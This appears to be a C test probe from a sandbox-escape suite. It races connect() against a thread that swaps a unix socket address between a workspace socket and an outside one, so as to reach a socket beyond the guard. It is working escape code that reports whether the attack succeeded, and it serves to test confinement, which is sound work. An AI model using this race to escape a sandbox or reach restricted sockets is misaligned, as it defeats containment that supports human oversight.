// escape: swap the address between the check and the call: own socket first, then one outside
// layer: guard
// outside: works
#include "payload.h"

static struct sockaddr_un mine, theirs, shared;
static volatile int stop;

static void *swap(void *none) {
    while (!stop) {
        memcpy(&shared, &theirs, sizeof shared);
        __asm__ volatile("" ::: "memory"); // or the compiler drops the first copy
        memcpy(&shared, &mine, sizeof shared);
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

static void attempt(void) {
    pthread_t thread;
    theirs = unix_address(arg("unix"));
    mine = unix_address(join("ws", "mine.sock"));
    shared = mine;
    int listener = new_socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (bind(listener, (void *)&mine, sizeof mine) < 0) blocked("bind in the workspace");
    if (listen(listener, 64) < 0) blocked("listen");
    if (pthread_create(&thread, NULL, swap, NULL)) skip("no thread");
    for (double end = seconds() + 0.5; seconds() < end;) {
        int fd = new_socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        struct sockaddr_un peer;
        socklen_t length = sizeof peer;
        if (!connect(fd, (void *)&shared, sizeof shared) && !getpeername(fd, (void *)&peer, &length) &&
            !strcmp(peer.sun_path, theirs.sun_path))
            worked("won the race for a socket outside");
        close(fd);
        while ((fd = accept(listener, NULL, NULL)) >= 0) close(fd);
    }
    stop = 1;
    no_effect("racing connect");
}
